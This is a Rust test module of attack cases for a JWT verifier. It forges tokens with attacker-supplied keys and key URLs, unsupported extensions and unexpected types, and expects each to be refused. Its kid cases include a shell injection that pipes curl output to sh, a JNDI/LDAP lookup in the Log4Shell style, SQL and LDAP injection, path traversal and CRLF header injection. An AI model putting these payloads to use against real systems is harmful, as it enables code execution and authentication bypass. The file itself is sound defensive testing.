//! No header parameter provides a key, or changes how the token is parsed (RFC 8725, sections 3.10
//! and 3.11; RFC 7515, sections 4.1.11 and 10.7).

use serde_json::{Value, json};
use tonic_passport::jwt::{Algorithm, TokenError, Verifier};

use super::{
    Attack, MALLORY, alice, attack, claims, good, header_parameter, not_base64url, not_json,
    sealed, unknown_key,
};
use crate::support::token::{SigningKey, base64url, key, sign_raw, with_member};

/// Keys in the token itself, or at a URL in it (such as CVE-2018-0114).
pub(super) fn keys_from_outside(url: &str) -> Vec<Attack> {
    let mallory = &*MALLORY;
    let der = base64url(mallory.public_key_der());
    let secret = SigningKey::hmac(Algorithm::HS256, key().key_id(), [7; 32]);
    let brought = [
        ("jwk, the attacker's", "jwk", mallory.jwk()),
        ("jwk, a shared secret", "jwk", secret.jwk()),
        ("jwk, the issuer's own", "jwk", key().jwk()),
        ("jwk, null", "jwk", Value::Null),
        ("jku, the attacker's", "jku", json!(format!("{url}/jwks.json"))),
        ("jku, the issuer's as a user name", "jku", json!(url.replace("//", "//id.example.com@"))),
        (
            "jku, a redirect of the issuer's",
            "jku",
            json!(format!("https://id.example.com/?to={url}")),
        ),
        ("jku, a file", "jku", json!("file:///dev/stdin")),
        ("jku, an array", "jku", json!([url])),
        ("x5u, the attacker's", "x5u", json!(format!("{url}/chain.pem"))),
        ("x5c, the attacker's", "x5c", json!([der])),
        ("x5c, empty", "x5c", json!([])),
    ];
    let mut attacks = Vec::new();
    for (name, parameter, value) in brought {
        let token = alice().signed_by(mallory).header(parameter, value.clone()).sign();
        attacks.push(attack(name, token, header_parameter(parameter)));
        // Issuers may use them; this verifier does not support it.
        let token = alice().header(parameter, value).sign();
        attacks.push(attack(
            format!("{name}, signed by the issuer"),
            token,
            header_parameter(parameter),
        ));
    }
    for name in ["x5t", "x5t#S256"] {
        let token = alice().signed_by(mallory).header(name, base64url([7; 20])).sign();
        attacks.push(attack(
            format!("{name} of the attacker's"),
            token,
            TokenError::SignatureInvalid,
        ));
    }
    let in_claims = alice().signed_by(mallory).claim("jwk", mallory.jwk()).claim("jku", url);
    attacks.push(attack(
        "jwk and jku among the claims",
        in_claims.sign(),
        TokenError::SignatureInvalid,
    ));
    attacks
}

/// Injection by `kid`, which is only ever compared.
pub(super) fn key_ids(url: &str) -> Vec<Attack> {
    let long = "k".repeat(5 * 1024);
    let lookup = format!("${{jndi:ldap://{}/a}}", url.trim_start_matches("http://"));
    let strange = [
        ("empty", ""),
        ("a path to an empty file", "../../../../../../dev/null"),
        ("a path with NUL at its end", "es256\0.pem"),
        ("a path in another system", r"..\..\..\windows\win.ini"),
        ("SQL that makes a secret", "x' UNION SELECT 'secret' --"),
        ("SQL that finds any key", "es256' OR '1'='1"),
        ("LDAP", "*)(kid=*"),
        ("a pattern", "*"),
        ("a command", "es256; curl http://127.0.0.1/ |sh"),
        ("a command in backquotes", "`id`"),
        ("a lookup in a log", &lookup),
        ("a URL of the attacker's", url),
        ("a name that every object of JavaScript has", "__proto__"),
        ("an index", "0"),
        ("a NUL", "\0"),
        ("lines of metadata", "es256\r\nx-user-id: admin"),
        ("a terminal's escape", "\u{1b}[2J"),
        ("ours in capitals", "ES256"),
        ("ours and a blank", "es256 "),
        ("ours, percent-encoded", "es%32%35%36"),
        ("ours in full-width digits", "es\u{ff12}\u{ff15}\u{ff16}"),
        ("the partner's", "hs256"),
        ("five kilobytes", &long),
    ];
    let mut attacks: Vec<_> = strange
        .into_iter()
        .map(|(name, kid)| {
            attack(format!("kid, {name}"), alice().header("kid", kid).sign(), unknown_key(kid))
        })
        .collect();
    // The secret that a program which reads this file finds.
    for (name, kid, secret) in [
        ("a path to an empty file", "../../../../../../dev/null", ""),
        ("SQL that makes a secret", "x' UNION SELECT 'secret' --", "secret"),
    ] {
        let secret = SigningKey::hmac(Algorithm::HS256, kid, secret);
        let token = alice().signed_by(&secret).sign();
        attacks.push(attack(format!("kid, {name}, and its secret"), token, unknown_key(kid)));
    }
    let max_size = Verifier::DEFAULT_MAX_TOKEN_SIZE;
    let too_long = alice().header("kid", "k".repeat(10 * 1024)).sign();
    attacks.push(attack("kid, ten kilobytes", too_long, TokenError::TooLong { max_size }));
    for (name, kid) in [
        ("null", Value::Null),
        ("a number", json!(256)),
        ("true", json!(true)),
        ("an array", json!(["es256"])),
        ("an object", json!({ "es256": 1 })),
    ] {
        let token = alice().header("kid", kid).sign();
        attacks.push(attack(format!("kid, {name}"), token, header_parameter("kid")));
    }
    let unnamed = alice().signed_by(&MALLORY).without_header("kid").sign();
    attacks.push(attack("no kid, the attacker's key", unnamed, TokenError::SignatureInvalid));
    attacks
}

/// Critical extensions, which are not supported, and so refused (CVE-2025-59420).
pub(super) fn extensions() -> Vec<Attack> {
    let critical = [
        ("unknown", json!(["http://example.com/unknown"])),
        ("exp", json!(["exp"])),
        ("of registered names", json!(["alg", "kid"])),
        ("b64", json!(["b64"])),
        ("twice the same", json!(["exp", "exp"])),
        ("empty", json!([])),
        ("of numbers", json!([1])),
        ("a string", json!("exp")),
        ("an object", json!({})),
        ("false", json!(false)),
        ("null", Value::Null),
    ];
    let mut attacks: Vec<_> = critical
        .into_iter()
        .map(|(name, value)| {
            let token = alice().header("crit", value).header("exp", 1).sign();
            attack(format!("crit, {name}"), token, header_parameter("crit"))
        })
        .collect();
    // RFC 7797: unencoded claims. RFC 7516, section 4.1.3: compressed claims.
    let unencoded = json!({ "alg": "ES256", "kid": "es256", "b64": false, "crit": ["b64"] });
    let unencoded = sealed(&base64url(unencoded.to_string()), r#"{"sub":"admin"}"#);
    attacks.extend([
        attack("b64 false", alice().header("b64", false).sign(), header_parameter("b64")),
        attack("b64 true", alice().header("b64", true).sign(), header_parameter("b64")),
        attack("b64 a string", alice().header("b64", "false").sign(), header_parameter("b64")),
        attack("claims that are not encoded", unencoded, not_base64url("claims")),
        // CVE-2024-28176: a few kilobytes decompress to gigabytes.
        attack("zip", alice().header("zip", "DEF").sign(), header_parameter("zip")),
        attack("zip null", alice().header("zip", Value::Null).sign(), header_parameter("zip")),
        attack(
            "a token in a token",
            alice().header("cty", "JWT").raw_claims(good(Algorithm::ES256)).sign(),
            not_json("claims"),
        ),
    ]);
    attacks
}

/// Other tokens that the issuer signs with the same key (RFC 8725, section 2.8).
pub(super) fn types() -> Vec<Attack> {
    let mut attacks: Vec<_> = [
        "txntoken+jwt",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "application/txntoken+jwt",
        "application/dpop+jwt",
        "Application/Logout+JWT",
        "SECEVENT+JWT",
        "client-authentication+jwt",
        "oauth-authz-req+jwt",
        "token-introspection+jwt",
        "entity-statement+jwt",
        "kb+jwt",
        "dc+sd-jwt",
        "vc+jwt",
        "JOSE",
        "JOSE+JSON",
        "",
        " jwt",
        "jwt\0",
        "at+jwt; charset=utf-8",
        "at+jwt+jwt",
        "text/jwt",
        "application/",
        "application/x/jwt",
        "application/application/jwt",
        "application/at+jwt/",
    ]
    .map(|typ| {
        attack(
            format!("typ {typ:?}"),
            alice().header("typ", typ).sign(),
            TokenError::TypeNotAccepted,
        )
    })
    .into();
    for value in [Value::Null, json!(1), json!(true), json!(["at+jwt"]), json!({ "at+jwt": 1 })] {
        let name = format!("typ {value}");
        attacks.push(attack(name, alice().header("typ", value).sign(), header_parameter("typ")));
    }
    let escaped =
        with_member(&json!({ "alg": "ES256", "kid": "es256" }), "typ", r#""dpo\u0070+jwt""#);
    let escaped = sign_raw(key(), escaped, claims().to_string());
    attacks.push(attack("typ, escaped", escaped, TokenError::TypeNotAccepted));
    attacks
}
